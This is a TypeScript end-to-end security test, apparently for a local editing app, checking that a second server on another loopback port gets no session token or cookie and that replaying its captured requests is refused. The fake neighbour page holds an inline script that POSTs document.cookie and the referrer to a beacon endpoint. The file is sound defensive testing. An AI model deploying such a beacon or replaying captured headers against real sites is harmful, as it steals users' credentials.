/**
 * Nothing leaks to a neighbour: after the browser has opened the host (and shown a photo), a page
 * served by another server on 127.0.0.1 receives no credential (cookies ignore ports, so the token
 * must not ride in one), and nothing that server received opens the host when replayed.
 */
import { createServer, request, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { WebSocket } from 'ws';
import { startE2eApp, type E2eApp } from './harness';
import { openStoryWith } from './helpers/story';

const TINY_PNG =
  'iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAIAAAD91JpzAAAAFklEQVR4nGP8z8DAwMDAxMDAwMDAAAANHQEDasKb6QAAAABJRU5ErkJggg==';

interface Received {
  method: string;
  url: string;
  headers: IncomingHttpHeaders;
  body: string;
}

/** Another local server: logs every request in full and serves a page that asks for more. */
async function startNeighbour(): Promise<{ server: Server; port: number; received: Received[] }> {
  const received: Received[] = [];
  const server = createServer((req, res) => {
    let body = '';
    req.on('data', (d: Buffer) => (body += d.toString('latin1')));
    req.on('end', () => {
      received.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers, body });
      if (req.url === '/') {
        res.writeHead(200, { 'content-type': 'text/html' });
        res.end(
          '<!doctype html><title>neighbour</title><img src="/pixel.png">' +
            "<script>fetch('/beacon', { method: 'POST', credentials: 'include', body: document.cookie + '|' + document.referrer });</script>",
        );
        return;
      }
      res.writeHead(204).end();
    });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return { server, port: (server.address() as AddressInfo).port, received };
}

function status(port: number, path: string, method: string, headers: Record<string, string>): Promise<number> {
  return new Promise((resolve, reject) => {
    const req = request({ host: '127.0.0.1', port, path, method, headers }, (res) => {
      res.resume();
      resolve(res.statusCode ?? 0);
    });
    req.on('error', reject);
    req.end(method === 'POST' ? '{}' : undefined);
  });
}

function wsOpens(port: number, headers: Record<string, string>): Promise<boolean> {
  return new Promise((resolve) => {
    const ws = new WebSocket(`ws://127.0.0.1:${port}/ws`, { headers });
    ws.on('open', () => {
      ws.close();
      resolve(true);
    });
    ws.on('error', () => resolve(false));
  });
}

describe('a neighbour on another loopback port', () => {
  let app: E2eApp;
  let neighbour: Awaited<ReturnType<typeof startNeighbour>>;
  beforeAll(async () => {
    app = await startE2eApp();
    neighbour = await startNeighbour();
  });
  afterAll(async () => {
    await app?.close();
    await new Promise((r) => neighbour?.server.close(r));
  });

  it('the page works on its token: stories load and a photo shows', async () => {
    const { asset } = await app.services.assets.importImage('p.png', TINY_PNG);
    const photo = {
      type: 'photo',
      asset,
      caption: '图说',
      credit: { kind: 'supplied', by: '企业' },
      children: [{ text: '' }],
    };
    await openStoryWith(app, { headline: '邻居', body: [photo, { type: 'paragraph', children: [{ text: '正文' }] }] });
    const img = app.page.locator('[data-testid="photo-block"] img');
    await expect.poll(() => img.evaluate((el) => (el as HTMLImageElement).naturalWidth)).toBe(2);
    // The token left the address bar and lives in this tab's sessionStorage only.
    expect(app.page.url()).not.toContain(app.host.pageToken);
    expect(await app.page.context().cookies()).toEqual([]);
  });

  it('receives no token, no cookie, nothing of ours', async () => {
    const { page } = app;
    await page.goto(`http://127.0.0.1:${neighbour.port}/`);
    const other = await page.context().newPage();
    await other.goto(`http://127.0.0.1:${neighbour.port}/`);
    await expect.poll(() => neighbour.received.filter((r) => r.url === '/beacon').length).toBe(2);
    await other.close();
    expect(neighbour.received.length).toBeGreaterThanOrEqual(4);
    for (const r of neighbour.received) {
      expect(r.headers.cookie, r.url).toBeUndefined();
      expect(r.headers.authorization, r.url).toBeUndefined();
      const everything = `${r.method} ${r.url}\n${JSON.stringify(r.headers)}\n${r.body}`;
      expect(everything).not.toContain(app.host.pageToken);
      expect(everything).not.toContain(app.host.token);
      expect(everything).not.toContain('store-assets');
      expect(everything).not.toContain(String(app.host.port));
    }
  });

  it('replaying what it received against the host is refused', async () => {
    const port = app.host.port;
    expect(neighbour.received.length).toBeGreaterThan(0);
    for (const r of neighbour.received) {
      const headers: Record<string, string> = {};
      for (const [k, v] of Object.entries(r.headers)) if (typeof v === 'string') headers[k] = v;
      headers.host = `127.0.0.1:${port}`;
      delete headers.origin;
      delete headers['content-length'];
      expect(await status(port, '/api/articles.list', 'POST', headers)).toBe(401);
      expect(await status(port, '/host/asset-pass', 'POST', headers)).toBe(401);
      expect(await status(port, `/store-assets${r.url}`, 'GET', headers)).toBe(401);
      expect(await wsOpens(port, headers)).toBe(false);
    }
  });

  it('back on the host, the tab still holds its token', async () => {
    await app.reopen();
    await app.page.waitForSelector('[data-testid="story-row"]');
  });
});
